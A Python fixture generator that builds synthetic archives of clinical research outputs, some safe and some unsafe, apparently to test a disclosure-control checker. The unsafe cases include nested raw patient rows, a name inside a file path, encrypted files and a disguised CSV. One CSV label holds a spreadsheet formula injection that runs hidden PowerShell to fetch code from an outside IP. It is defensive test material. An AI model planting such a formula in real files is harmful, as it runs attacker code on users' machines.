"""Archives in archives; types that are unknown, encrypted or damaged."""

import bz2
import gzip
import io
import subprocess
import tarfile
import zipfile

import pikepdf
import py7zr
from openpyxl import Workbook

from .kit import day, fig, ipp, person, plt, split, table

STAMP = (2024, 3, 1, 8, 0, 0)


def zipped(files, comment=b""):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(
                zipfile.ZipInfo(name, STAMP), data if isinstance(data, bytes) else data.encode(), zipfile.ZIP_DEFLATED
            )
        z.comment = comment
    return b.getvalue()


def tar(files, mode="w:gz"):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode=mode) as t:
        for name, data in files.items():
            data = data if isinstance(data, bytes) else data.encode()
            i = tarfile.TarInfo(name)
            i.size = len(data)
            i.mtime = 1709280000
            t.addfile(i, io.BytesIO(data))
    return b.getvalue()


def csv(rows, sep=","):
    return "\n".join(sep.join(str(c) for c in r) for r in rows) + "\n"


def xlsx(rows):
    w = Workbook()
    w.properties.creator = ""
    for r in rows:
        w.active.append(r)
    b = io.BytesIO()
    w.save(b)
    return b.getvalue()


def pic(labels, values, title):
    f, ax = fig(6, 4)
    ax.bar(labels, values)
    ax.set_title(title)
    b = io.BytesIO()
    f.savefig(b, dpi=90)
    plt.close(f)
    return b.getvalue()


def write(shelf):
    rng = shelf.random("archives")

    def sexage(n):
        return [
            ["classe_age", "femmes", "hommes"],
            *(
                [a, x, y]
                for a, x, y in zip(
                    ["18-39", "40-59", "60-74", "75+"], split(rng, n // 2, 4, 80), split(rng, n // 2, 4, 80)
                )
            ),
        ]

    # --- unsafe
    p = shelf.unsafe(
        "archives/livrable_lot2.zip",
        "a zip in a zip holds a file of rows",
        "annexes/brut.zip!/donnees.csv",
        "Livrable du lot 2 : tableaux et annexes.",
        "1 740 patients asthmatiques",
    )
    rows = [
        ["ipp", "sexe", "age", "vems"],
        *([ipp(rng), rng.choice("MF"), rng.randint(18, 80), rng.randint(40, 120)] for _ in range(200)),
    ]
    p.write_bytes(
        zipped(
            {
                "tableau1.csv": csv(sexage(1740), ";"),
                "LISEZMOI.md": "# Lot 2\nTableau 1 : effectifs par classe d'âge et sexe.\n",
                "annexes/brut.zip": zipped({"donnees.csv": csv(rows, ";")}),
            }
        )
    )

    p = shelf.unsafe(
        "archives/results_v3.tar.gz",
        "formula injection in a label",
        "tables/adverse_events.csv, last line",
        "All tables of the paper.",
        "1 106 patients treated with CAR-T or chemotherapy (two registries)",
    )
    p.write_bytes(
        tar(
            {
                "tables/age_sex.csv": csv(sexage(1106)),
                "tables/adverse_events.csv": csv(
                    [
                        ["event", "grade_1_2", "grade_3", "grade_4"],
                        ["CRS", 311, 64, 21],
                        ["Neurotoxicity", 142, 39, 14],
                        ["=cmd|'/c powershell -w hidden iwr http://10.2.3.4/a'!A1", 208, 97, 33],
                    ]
                ),
                "tables/README.txt": "CTCAE v5 grades.\n",
            }
        )
    )

    g, f = person(rng)
    p = shelf.unsafe(
        "archives/figures_article.zip",
        "a member's name holds a patient's name",
        f"nom du fichier fig3_{f}_{g}.png",
        "Figures de l'article (PNG).",
        "2 020 patients",
    )
    p.write_bytes(
        zipped(
            {
                "fig1_incidence.png": pic(["2020", "2021", "2022"], [61.2, 58.7, 63.0], "Incidence pour 100 000"),
                f"patients/{f.upper()}_{g}/fig3_evolution.png": pic(
                    ["M0", "M6", "M12"], [8.1, 7.4, 7.0], "Score moyen (n > 600)"
                ),
            }
        )
    )

    p = shelf.unsafe(
        "archives/tables_protected.zip",
        "encrypted archive",
        "whole file",
        "Tables of the appendix, protected by the usual password of the team.",
        "880 patients",
    )
    tmp = shelf.path("parts/appendix.csv")
    tmp.write_text(csv(sexage(880)))
    subprocess.run(["zip", "-q", "-j", "-P", "Equipe2023", str(p), str(tmp)], check=True)

    p = shelf.unsafe(
        "archives/export_7z.7z",
        "7z archive with encrypted content",
        "fichier entier",
        "Export des résultats du modèle (archive 7z).",
        "13 000 séjours",
    )
    with py7zr.SevenZipFile(p, "w", password="cohorte") as z:
        z.writestr(csv(sexage(13000)), "resultats.csv")

    p = shelf.unsafe(
        "divers/rapport_annuel_signe.pdf",
        "PDF that cannot be opened without its password",
        "fichier entier",
        "Rapport annuel de l'unité de recherche.",
        "chiffres d'activité, 5 400 inclusions",
    )
    with pikepdf.new() as d:
        d.add_blank_page()
        d.save(p, encryption=pikepdf.Encryption(owner="o", user="u", R=6))

    p = shelf.unsafe(
        "divers/fig_survival_final.png",
        "damaged picture, cut in the middle",
        "whole file",
        "Final version of figure 2.",
        "3 300 patients",
    )
    data = pic(["A", "B", "C"], [81, 77, 69], "One-year survival (%), n > 900 per group")
    p.write_bytes(data[: len(data) // 3])

    p = shelf.unsafe(
        "divers/modele_final.mdl7",
        "unknown type of file",
        "whole file",
        "Modèle final au format interne du logiciel de la plateforme.",
        "20 400 séjours",
    )
    p.write_bytes(b"MDL7\x00\x02" + bytes(rng.randrange(256) for _ in range(5000)))

    p = shelf.unsafe(
        "archives/supplement.tar",
        "a CSV of rows compressed twice under a picture's name (a disguise)",
        "img/logo.png is bz2 of gzip",
        "Supplementary tables and logo.",
        "4 020 patients",
    )
    rows = [
        ["n", "birth", "icd", "entry"],
        *([i, day(rng, 1930, 2000), f"I{rng.randint(10, 70)}", day(rng)] for i in range(1, 400)),
    ]
    p.write_bytes(
        tar(
            {
                "supp/table_s1.csv": csv(sexage(4020)),
                "img/logo.png": bz2.compress(gzip.compress(csv(rows).encode(), mtime=0)),
            },
            "w",
        )
    )

    # --- safe
    p = shelf.safe(
        "archives/tableaux_comite.zip",
        "three formats in an archive, counts above 80",
        "Tableaux du comité de pilotage : CSV, Excel et figure.",
        "6 200 patients vaccinés",
    )
    t = sexage(6200)
    p.write_bytes(
        zipped(
            {
                "t1.csv": csv(t, ";"),
                "t1.xlsx": xlsx(t),
                "fig1.png": pic(
                    ["18-39", "40-59", "60-74", "75+"], [41.5, 52.0, 66.1, 74.3], "Couverture vaccinale (%)"
                ),
            }
        )
    )

    p = shelf.safe(
        "archives/nested_results.tar.gz",
        "zip in a tar with coefficients only",
        "Nested archive: model coefficients by outcome, in one zip each.",
        "27 000 patients with type 2 diabetes",
    )
    inner = {
        o: zipped(
            {
                "coef.csv": csv(
                    [
                        ["term", "hr", "lo", "hi", "p"],
                        ["age_10y", 1.31, 1.25, 1.38, "<0.001"],
                        ["male", 1.12, 1.02, 1.22, 0.01],
                        ["ckd", 1.74, 1.6, 1.9, "<0.001"],
                    ]
                ),
                "n.txt": f"n = 27000, events = {e}\n",
            }
        )
        for o, e in (("mi", 1412), ("stroke", 1120), ("death", 3871))
    }
    p.write_bytes(tar({f"outcomes/{o}.zip": v for o, v in inner.items()}))

    p = shelf.safe(
        "archives/taux_mensuels.csv.gz",
        "a compressed CSV of monthly rates",
        "Taux mensuel de réadmission, 2019-2023, fichier compressé.",
        "140 000 séjours environ (plus de 2 000 par mois)",
    )
    rows = [
        ["mois", "sejours", "taux_readmission_pct"],
        *(
            [f"{y}-{m:02d}", rng.randint(2050, 2600), round(rng.uniform(9, 13), 1)]
            for y in range(2019, 2024)
            for m in range(1, 13)
        ),
    ]
    p.write_bytes(gzip.compress(csv(rows, ";").encode(), mtime=0))

    p = shelf.safe(
        "archives/code_release.zip",
        "code and a synthetic example with invented parameters",
        "Code release of the paper with a README and a requirements file.",
        "no data; code only",
    )
    p.write_bytes(
        zipped(
            {
                "README.md": "# Code\nRun `python -m pipeline --folds 5`. No data included.\n",
                "requirements.txt": "pandas==2.2.2\nscikit-learn==1.5.0\nnumpy==1.26.4\n",
                "pipeline/__main__.py": "import argparse\n\nparser = argparse.ArgumentParser()\nparser.add_argument('--folds', type=int, default=5)\nargs = parser.parse_args()\nprint('folds', args.folds)\n",
                "LICENSE": "MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy.\n",
            }
        )
    )

    p = shelf.safe(
        "archives/sensitivity.tgz",
        "many small files, p-values and versions",
        "Analyses de sensibilité : une estimation par fichier.",
        "9 300 patients, huit analyses",
    )
    p.write_bytes(
        tar(
            {
                f"sens/analyse_{i}.txt": f"Analyse de sensibilité {i}\nHR = {0.78 + 0.01 * i:.2f} (IC95 % {0.7 + 0.01 * i:.2f} ; {0.87 + 0.01 * i:.2f})\nn = {9300 - 110 * i}\np = 0,00{i}\n"
                for i in range(1, 9)
            }
        )
    )

    p = shelf.safe(
        "archives/dashboard_static.zip",
        "JSON, SVG and Markdown in folders, no scripts",
        "Static assets of the bed-management dashboard (aggregates per month).",
        "62 000 stays, 12 months",
    )
    import json

    p.write_bytes(
        zipped(
            {
                "data/occupancy.json": json.dumps(
                    [
                        {"month": m, "stays": 5000 + 31 * m, "occupancy_pct": round(84 + m * 0.4, 1)}
                        for m in range(1, 13)
                    ]
                ),
                "img/legend.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="30"><rect width="20" height="20" fill="#4c78a8"/><text x="28" y="16">Occupancy</text></svg>',
                "README.md": "# Assets\nOne value per month.\n",
            }
        )
    )

    p = shelf.safe(
        "archives/excel_par_pole.zip",
        "one workbook per division, all cells above 80",
        "Un classeur par pôle : effectifs par classe d'âge et sexe.",
        "4 pôles, plus de 2 000 patients chacun",
    )
    p.write_bytes(
        zipped(
            {
                f"pole_{k}.xlsx": xlsx(sexage(n))
                for k, n in (("medecine", 4820), ("chirurgie", 3960), ("urgences", 2240), ("psychiatrie", 2610))
            }
        )
    )

    p = shelf.safe(
        "archives/codebook.tar",
        "codes and labels, numbers from 1 to 9 are codes",
        "Codebook of the study variables with value labels.",
        "no data; 30 variables",
    )
    p.write_bytes(
        tar(
            {
                "codebook/values.csv": csv(
                    [
                        ["variable", "code", "label"],
                        *(["asa", i, f"ASA {i}"] for i in range(1, 6)),
                        *(["ecog", i, f"ECOG {i}"] for i in range(5)),
                        *(["mrs", i, f"Rankin {i}"] for i in range(7)),
                    ]
                ),
                "codebook/variables.csv": csv(
                    [
                        ["name", "type", "missing_code"],
                        ["asa", "ordinal", 9],
                        ["ecog", "ordinal", 9],
                        ["mrs", "ordinal", 9],
                        ["age_class", "ordinal", 99],
                    ]
                ),
            },
            "w",
        )
    )

    p = shelf.safe(
        "archives/table1_bilingue.zip",
        "the same table twice, in two languages",
        "Tableau 1 en français et en anglais (mêmes nombres).",
        "2 660 patients : 1 500 traités, 1 160 non traités",
    )
    rows = table(
        rng,
        {"Traités": 1500, "Non traités": 1160},
        [
            ("num", "Âge", 61, 13),
            ("bin", "Femmes", 0.47),
            ("bin", "HTA", 0.52),
            ("cat", "Stade", ["I", "II", "III"]),
            ("bin", "Tabac actif", 0.21),
        ],
    )
    en = [
        [
            c.replace("Traités", "Treated")
            .replace("Non traités", "Untreated")
            .replace("Non treated", "Untreated")
            .replace("Âge", "Age")
            .replace("Femmes", "Women")
            .replace("HTA", "Hypertension")
            .replace("Stade", "Stage")
            .replace("Tabac actif", "Current smoker")
            for c in r
        ]
        for r in rows
    ]
    p.write_bytes(zipped({"tableau1_fr.csv": csv(rows, ";"), "table1_en.csv": csv(en, ";")}))
